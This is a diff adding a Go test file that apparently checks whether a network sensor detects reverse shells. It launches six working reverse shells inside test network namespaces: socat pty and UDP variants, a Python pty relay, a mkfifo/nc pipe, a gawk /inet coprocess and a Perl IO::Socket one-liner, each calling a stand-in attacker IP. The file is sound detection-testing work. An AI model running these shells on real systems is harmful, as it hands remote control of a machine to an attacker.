@@ -1,0 +1,122 @@
+package scenarios
+
+import (
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/netsentinel/netsentinel/test/netns"
+)
+
+// Reverse shells without a socket on the shell's own stdio (issue 10 item
+// 2): the shell sits on a pty or a pipe whose other end a relay holds, or the
+// interpreter runs what its own connection sends. Every attack runs as root;
+// the unprivileged sensor cannot read root's fds or socket owners and ties
+// the connection to the relay through the relay's command line (see the
+// reverse_shell rule's Sees).
+
+// revshellCase is one reverse shell: the attack command (argv), the external
+// host it calls, and what the alert must say.
+type revshellCase struct {
+	name, c2, port string
+	udp            bool
+	argv           func(dir string) []string
+	tech, proc     string
+	note           string
+}
+
+func TestReverseShellRelays(t *testing.T) {
+	netns.RequireTools(t, "socat", "ncat", "nc", "gawk", "perl", "python3", "mkfifo", "nsenter", "unshare")
+	cases := []revshellCase{
+		{
+			name: "revshell_socat_pty", c2: "198.51.100.30", port: "4444",
+			argv: func(string) []string {
+				return []string{"timeout", "25", "socat", "TCP:198.51.100.30:4444", "EXEC:bash -li,pty,stderr,setsid,sigint,sane"}
+			},
+			tech: "T1059.004", proc: "bash",
+			note: "socat TCP:… EXEC:'bash -li',pty,setsid: bash leads a pty session whose master socat holds",
+		},
+		{
+			name: "revshell_python_pty_relay", c2: "198.51.100.31", port: "4444",
+			argv: func(string) []string { return []string{"timeout", "25", "python3", "-c", pythonPTYRelay} },
+			tech: "T1059.006", proc: "sh",
+			note: "python3 pty.fork() relay (select loop between the socket and the pty master), sh -i on the pty",
+		},
+		{
+			name: "revshell_mkfifo_nc", c2: "198.51.100.32", port: "4444",
+			argv: func(dir string) []string {
+				f := filepath.Join(dir, "f")
+				return []string{"timeout", "25", "sh", "-c", "rm -f " + f + "; mkfifo " + f + "; cat " + f + " | sh -i 2>&1 | nc 198.51.100.32 4444 > " + f}
+			},
+			tech: "T1059.004", proc: "sh",
+			note: "mkfifo F; cat F | sh -i 2>&1 | nc … > F (netcat-openbsd)",
+		},
+		{
+			name: "revshell_gawk_inet", c2: "198.51.100.33", port: "4444",
+			argv: func(string) []string {
+				return []string{"timeout", "25", "gawk", `BEGIN { s = "/inet/tcp/0/198.51.100.33/4444"; while ((s |& getline c) > 0) { while ((c |& getline line) > 0) print line |& s; close(c) } }`}
+			},
+			tech: "T1059.004", proc: "gawk",
+			note: "gawk /inet/tcp coprocess running each line it reads",
+		},
+		{
+			name: "revshell_perl_io_socket", c2: "198.51.100.34", port: "4444",
+			argv: func(string) []string {
+				return []string{"timeout", "25", "perl", "-MIO", "-e", `$c=new IO::Socket::INET(PeerAddr,"198.51.100.34:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`}
+			},
+			tech: "T1059", proc: "perl",
+			note: "perl -MIO -e one-liner: IO::Socket::INET, system() per line read",
+		},
+		{
+			name: "revshell_socat_udp", c2: "198.51.100.35", port: "5353", udp: true,
+			argv: func(string) []string {
+				return []string{"timeout", "25", "socat", "UDP:198.51.100.35:5353", "EXEC:sh"}
+			},
+			tech: "T1059.004", proc: "sh",
+			note: "socat UDP:… EXEC:sh: sh on a socketpair under socat's connected UDP socket",
+		},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			eachMode(t, func(t *testing.T, m mode) {
+				topo := netns.New(t, 0)
+				if tc.udp {
+					internetHost(t, topo, tc.c2)
+					bg(t, topo, topo.Cmd(ctxFor(t, 40*time.Second), topo.I, "timeout", "30", "socat", "-u", "UDP-RECV:"+tc.port+",bind="+tc.c2, "/dev/null"))
+					topo.WaitBoundUDP(t, topo.I, tc.c2, tc.port)
+				} else {
+					listenOnce(t, topo, tc.c2, tc.port, "")
+				}
+				s := startSensor(t, topo, tc.name, sensorOptions{mode: m})
+				argv := tc.argv(t.TempDir())
+				_, start := hostStart(t, topo, 30*time.Second, argv[0], argv[1:]...)
+				e := s.expect(t, tc.name, tc.tech, start, tc.note, and(isTechnique("reverse_shell", tc.tech), destIs(tc.c2), procIs(tc.proc)))
+				wantField(t, e, "process.name", tc.proc)
+				wantField(t, e, "destination.port", tc.port)
+			})
+		})
+	}
+}
+
+// pythonPTYRelay connects out, runs sh -i on a new pty (pty.fork: the child
+// is a session leader on the slave) and relays between the socket and the
+// pty master: the socket is never on the shell's stdio.
+const pythonPTYRelay = `import os, pty, select, socket, sys
+s = socket.create_connection(("198.51.100.31", 4444))
+pid, fd = pty.fork()
+if pid == 0:
+    os.execv("/bin/sh", ["sh", "-i"])
+while True:
+    r, _, _ = select.select([s, fd], [], [], 1.0)
+    for x in r:
+        try:
+            data = os.read(fd, 4096) if x == fd else s.recv(4096)
+        except OSError:
+            sys.exit(0)
+        if not data:
+            sys.exit(0)
+        if x == fd:
+            s.sendall(data)
+        else:
+            os.write(fd, data)
+`
